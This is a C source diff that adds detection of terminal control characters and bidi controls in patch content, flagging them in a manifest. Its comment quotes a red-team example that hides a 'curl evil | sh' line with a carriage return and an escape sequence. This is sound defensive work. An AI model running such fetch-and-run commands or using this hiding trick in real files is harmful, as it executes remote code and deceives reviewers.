@@ -71,6 +71,7 @@ struct change {
 	int similarity;             /* rename: percent of content kept (100: same) */
 	char *xattrs;               /* user.* changes: a JSON object, or NULL */
 	int xattr_only;             /* content and mode the lower's: no patch entry */
+	int controls;               /* new text holds terminal controls (content_controls) */
 };
 
 struct refusal {
@@ -436,6 +437,45 @@ static void delete_tree(struct ctx *x, const struct gofer_srv_export *e, const c
 			const struct stat *lst);
 
 /* Record the new content of an upper entry (add or modify); 0 or refused. */
+/* Does a text the patch carries raw (no NUL in its first 8000 bytes: not a
+ * binary literal; a symlink's target) hold what a terminal acts on or
+ * shows as other than it is: C0 controls but tab, LF, FF and a CR before
+ * LF, DEL, C1 (U+0080-U+009F, or a raw byte 0x80-0x9f), the bidi
+ * controls? Then `cat changes.patch` or a pager shows another line than
+ * git apply writes: red-team round 64, an added line "curl evil | sh" +
+ * CR + ESC[2K + "echo done" showed as "echo done", and `moat diff` said
+ * "M setup.sh (file, 40 bytes)". Only flagged (the manifest's
+ * "controls", moat diff's "terminal controls"), never changed. */
+static int content_controls(const char *d, size_t n)
+{
+	const unsigned char *p = (const unsigned char *)d, *end = p + n;
+
+	if (memchr(d, 0, n < 8000 ? n : 8000))
+		return 0;       /* a binary literal in the patch: base85 */
+	while (p < end) {
+		if (*p < 0x80) {
+			if ((*p < 0x20 && *p != '\t' && *p != '\n' && *p != '\f' &&
+			     !(*p == '\r' && p + 1 < end && p[1] == '\n')) || *p == 0x7f)
+				return 1;
+			p++;
+			continue;
+		}
+		unsigned char u[5] = { 0 };
+		int l = 1;
+		memcpy(u, p, (size_t)(end - p) < 4 ? (size_t)(end - p) : 4);
+		long c = utf8_at(u, &l);
+		if (c < 0) {
+			if (*p < 0xa0)
+				return 1;   /* an 8-bit C1 */
+			l = 1;
+		} else if (unsafe_cp(c)) {
+			return 1;
+		}
+		p += l;
+	}
+	return 0;
+}
+
 static int take_new(struct ctx *x, const struct gofer_srv_export *e, const char *rel,
 		    const struct stat *ust, struct change *c)
 {
@@ -454,6 +494,7 @@ static int take_new(struct ctx *x, const struct gofer_srv_export *e, const char 
 	c->bytes = n;
 	snprintf(c->xxh3, sizeof c->xxh3, "%016llx", (unsigned long long)XXH3_64bits(d, n));
 	hash_sha256(d, n, c->sha256);
+	c->controls = content_controls(d, n);
 	free(d);
 	return 0;
 }
@@ -1556,6 +1597,8 @@ static int write_group(struct ctx *x, const char *name, const struct gofer_srv_e
 			if (!c->is_dir)
 				fprintf(mf, ", \"bytes\": %llu, \"xxh3\": \"%s\", \"sha256\": \"%s\"",
 					c->bytes, c->xxh3, c->sha256);
+			if (c->controls && !c->xattr_only)
+				fputs(", \"controls\": true", mf);
 			if (c->whole)
 				fputs(", \"hunk\": \"whole changed middle (line diff bound)\"", mf);
 			if (c->xattrs)
